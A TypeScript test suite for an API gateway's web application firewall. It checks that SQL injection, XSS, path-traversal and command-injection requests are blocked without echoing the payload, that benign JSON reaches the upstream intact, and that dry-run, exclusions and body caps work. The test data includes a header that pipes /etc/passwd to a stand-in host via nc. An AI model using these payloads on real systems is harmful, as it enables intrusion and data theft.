/**
 * Issue 5, the WAF through the whole gateway: attacks of each family, wherever they sit in the
 * request (query, nested JSON, a header, a double-encoded path, an unlabelled body, a multipart
 * field), are answered 403 problem+json naming rule ids and score — never echoing the payload —
 * and the upstream receives nothing; everyday API payloads reach the upstream byte for byte;
 * dry-run lets attacks through and logs them; exclusions are per field; bodies over the cap are
 * blocked, or (inspect-prefix) scanned on their prefix and forwarded whole.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type CapturedLogs, captureLogs, spec, startGateway, type TestGateway } from '../helpers/gateway.ts';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';

const CAP = 1024;
const BROWSER_UA =
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';

interface Problem {
  type: string;
  status: number;
  rules: string[];
  score: number;
}

describe('waf through the gateway', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  let logs: CapturedLogs;

  beforeAll(async () => {
    upstream = await startUpstream({ name: 'u1' });
    logs = captureLogs('info');
    const svc = (basePath: string) => spec({ basePath, upstreams: [upstream.url] });
    gw = await startGateway(
      { guarded: svc('/guarded'), dry: svc('/dry'), capped: svc('/capped'), prefix: svc('/prefix') },
      {},
      {
        logger: logs.logger,
        policies: {
          waf: [
            {
              match: { service: 'guarded' },
              waf: { mode: 'block', exclusions: [{ target: 'body:post.content', families: ['xss'] }] },
            },
            { match: { service: 'dry' }, waf: { mode: 'dry-run' } },
            { match: { service: 'capped' }, waf: { mode: 'block', maxBodyBytes: CAP } },
            {
              match: { service: 'prefix' },
              waf: { mode: 'block', maxBodyBytes: CAP, overLimit: 'inspect-prefix' },
            },
          ],
        },
      },
    );
  }, 30_000);

  afterAll(async () => {
    await gw?.close();
    await upstream?.close();
  });

  /** Send, and report the answer plus how many requests the upstream got meanwhile. */
  async function send(path: string, init: RequestInit = {}) {
    const before = upstream.seen.length;
    const res = await fetch(`${gw.url}${path}`, {
      ...init,
      headers: { 'user-agent': BROWSER_UA, ...(init.headers as Record<string, string>) },
      signal: AbortSignal.timeout(10_000),
    });
    const text = await res.text();
    return { res, text, reached: upstream.seen.slice(before) };
  }

  const json = (v: unknown): RequestInit => ({
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(v),
  });

  function multipart(): RequestInit {
    const form = new FormData();
    form.append('title', 'Holiday photos');
    form.append('comment', '<img src=x onerror=alert(document.domain)>');
    return { method: 'POST', body: form };
  }

  const attacks: Array<{
    what: string;
    path: string;
    init?: () => RequestInit;
    family: string;
    /** A piece of the payload that must not come back in the answer. */
    payload: string;
  }> = [
    {
      what: 'SQL injection in the query',
      path: `/guarded/items?q=${encodeURIComponent("1' OR '1'='1' -- ")}&limit=10`,
      family: 'sqli',
      payload: "'1'='1",
    },
    {
      what: 'XSS in a JSON body nested 3 deep',
      path: '/guarded/items',
      init: () => json({ order: { shipping: { note: '<script>alert(document.cookie)</script>' } }, qty: 1 }),
      family: 'xss',
      payload: '<script>',
    },
    {
      what: 'command injection in a header',
      path: '/guarded/items',
      init: () => ({ headers: { 'x-client-note': 'ok; cat /etc/passwd | nc evil.example 4444' } }),
      family: 'rce',
      payload: 'nc evil.example',
    },
    {
      what: 'double-encoded path traversal',
      path: '/guarded/items/%252e%252e%252f%252e%252e%252fetc%252fpasswd',
      family: 'lfi',
      payload: 'etc',
    },
    {
      what: 'a body without Content-Type',
      path: '/guarded/items',
      // A byte body: fetch adds no Content-Type (a string body would get text/plain).
      init: () => ({
        method: 'POST',
        body: new TextEncoder().encode("name=x' UNION SELECT password FROM users-- "),
      }),
      family: 'sqli',
      payload: 'password',
    },
    {
      what: 'a multipart form field',
      path: '/guarded/upload',
      init: multipart,
      family: 'xss',
      payload: 'onerror',
    },
  ];

  test.each(attacks)(
    '$what → 403 waf-blocked, rule ids and score, no echo, upstream untouched',
    async (a) => {
      const init = a.init?.() ?? {};
      if (a.what.includes('Content-Type')) expect(init.headers).toBeUndefined();
      const { res, text, reached } = await send(a.path, init);
      expect(res.status).toBe(403);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      const problem = JSON.parse(text) as Problem;
      expect(problem.type).toMatch(/\/waf-blocked$/);
      expect(problem.status).toBe(403);
      expect(problem.score).toBeGreaterThanOrEqual(5);
      expect(problem.rules.length).toBeGreaterThan(0);
      expect(problem.rules.some((id) => id.startsWith(`${a.family}-`))).toBe(true);
      expect(text.toLowerCase()).not.toContain(a.payload.toLowerCase());
      expect(reached).toEqual([]);
    },
  );

  const benign: Array<{ what: string; body: unknown }> = [
    {
      what: 'prose with apostrophes',
      body: {
        title: "Don't miss O'Reilly's talk",
        text: "It's the team's best release yet; we've fixed what didn't work and we're proud of it. Select a seat — or two!",
      },
    },
    {
      what: 'code snippets in a JSON field',
      body: {
        language: 'typescript',
        snippet:
          'const total = items.filter((i) => i.qty > 0).reduce((s, i) => s + i.price * i.qty, 0);\nreturn total;',
        python: 'for row in rows:\n    print(f"{row.name}: {row.count}")',
      },
    },
    {
      what: 'emails and contact details',
      body: { email: 'jane.o-neil+orders@example.co.uk', cc: ['ops@example.com'], phone: '+44 20 7946 0958' },
    },
    {
      what: 'URLs',
      body: {
        homepage: 'https://www.example.com/products/widgets?color=blue&size=m#reviews',
        avatar: 'https://cdn.example.net/u/42/avatar.png',
        callback: 'https://hooks.example.org/v1/events',
      },
    },
  ];

  test.each(benign)('benign $what → 200 and the upstream gets the exact bytes', async ({ body }) => {
    const sent = JSON.stringify(body);
    const { res, reached } = await send('/guarded/items', {
      method: 'POST',
      headers: { 'content-type': 'application/json', accept: 'application/json' },
      body: sent,
    });
    expect(res.status).toBe(200);
    expect(reached).toHaveLength(1);
    expect(reached[0]?.body).toBe(sent);
    expect(reached[0]?.bodyBytes).toBe(Buffer.byteLength(sent));
  });

  test('dry-run lets an attack through and logs the decision without the payload', async () => {
    const q = encodeURIComponent("1' UNION SELECT username, password FROM users --");
    const { res, reached } = await send(`/dry/items?q=${q}`);
    expect(res.status).toBe(200);
    expect(reached).toHaveLength(1);
    const entry = logs.lines.find((l) => l.policy === 'waf' && l.mode === 'dry-run');
    expect(entry).toBeDefined();
    expect(entry?.route).toBe('listItems');
    expect(((entry?.rules ?? []) as string[]).some((id) => id.startsWith('sqli-'))).toBe(true);
    expect(entry?.score as number).toBeGreaterThanOrEqual(5);
    expect(entry?.targets).toContain('query:q');
    expect(JSON.stringify(entry)).not.toContain('password');
  });

  test('the access log line of a blocked request names the WAF rules and score, not the payload', async () => {
    const q = encodeURIComponent("1' UNION SELECT username, password FROM users --");
    const { res } = await send(`/guarded/items?q=${q}&probe=access-log`);
    expect(res.status).toBe(403);
    // The line is written when the response closes, just after the client got it.
    await expect
      .poll(() =>
        logs.lines.find(
          (l) => l.msg === 'request' && l.code === 'PC_WAF_BLOCKED' && l.path === '/guarded/items',
        ),
      )
      .toBeDefined();
    const line = logs.lines.findLast((l) => l.msg === 'request' && l.code === 'PC_WAF_BLOCKED');
    const policies = (line?.policies ?? []) as Array<Record<string, unknown>>;
    const waf = policies.find((d) => d.policy === 'waf') ?? {};
    expect(waf).toMatchObject({ outcome: 'deny', reason: 'anomaly_score' });
    expect(((waf.rules ?? []) as string[]).some((id) => id.startsWith('sqli-'))).toBe(true);
    expect(waf.score as number).toBeGreaterThanOrEqual(5);
    expect(JSON.stringify(line)).not.toContain('UNION');
  });

  test('an exclusion covers its field only: the same payload passes there and blocks elsewhere', async () => {
    const payload = '<b onmouseover="alert(1)">hover me</b>';
    const allowed = JSON.stringify({ post: { title: 'Hello', content: payload } });
    const passed = await send('/guarded/items', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: allowed,
    });
    expect(passed.res.status).toBe(200);
    expect(passed.reached.map((r) => r.body)).toEqual([allowed]);

    const blocked = await send('/guarded/items', json({ post: { title: payload, content: 'Hello' } }));
    expect(blocked.res.status).toBe(403);
    expect((JSON.parse(blocked.text) as Problem).rules.some((id) => id.startsWith('xss-'))).toBe(true);
    expect(blocked.reached).toEqual([]);
  });

  /** A benign JSON body of exactly `bytes` bytes, optionally carrying `attack` at `at` (start|end). */
  function sized(bytes: number, attack?: { text: string; at: 'start' | 'end' }): string {
    const shell = (s: string) =>
      JSON.stringify({
        a: attack?.at === 'start' ? attack.text : 'x',
        pad: s,
        z: attack?.at === 'end' ? attack.text : 'x',
      });
    const pad = 'lorem ipsum '.repeat(Math.ceil(bytes / 12)).slice(0, bytes - shell('').length);
    return shell(pad);
  }

  test('a body over maxBodyBytes is blocked by default, unread by the upstream', async () => {
    const body = sized(4 * CAP);
    expect(body.length).toBe(4 * CAP);
    const { res, text, reached } = await send('/capped/items', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body,
    });
    expect(res.status).toBe(413);
    expect(JSON.parse(text)).toMatchObject({ code: 'PC_WAF_BODY_LIMIT', limit: 'bodyBytes' });
    expect(reached).toEqual([]);
    // Under the cap, the same route forwards.
    const small = sized(CAP - 1);
    const ok = await send('/capped/items', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: small,
    });
    expect(ok.res.status).toBe(200);
    expect(ok.reached.map((r) => r.body)).toEqual([small]);
  });

  test('inspect-prefix: an over-cap body is scanned on its prefix and forwarded whole', async () => {
    const post = (body: string) =>
      send('/prefix/items', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    const plain = sized(4 * CAP);
    const ok = await post(plain);
    expect(ok.res.status).toBe(200);
    expect(ok.reached).toHaveLength(1);
    expect(ok.reached[0]?.bodyBytes).toBe(4 * CAP);
    expect(ok.reached[0]?.body).toBe(plain);

    const attack = '<script>alert(1)</script>';
    const early = await post(sized(4 * CAP, { text: attack, at: 'start' }));
    expect(early.res.status).toBe(403);
    expect(early.reached).toEqual([]);

    // Past the inspected prefix, nothing is seen: that is what inspect-prefix trades for size.
    const late = sized(4 * CAP, { text: attack, at: 'end' });
    const passed = await post(late);
    expect(passed.res.status).toBe(200);
    expect(passed.reached[0]?.body).toBe(late);
  });
});
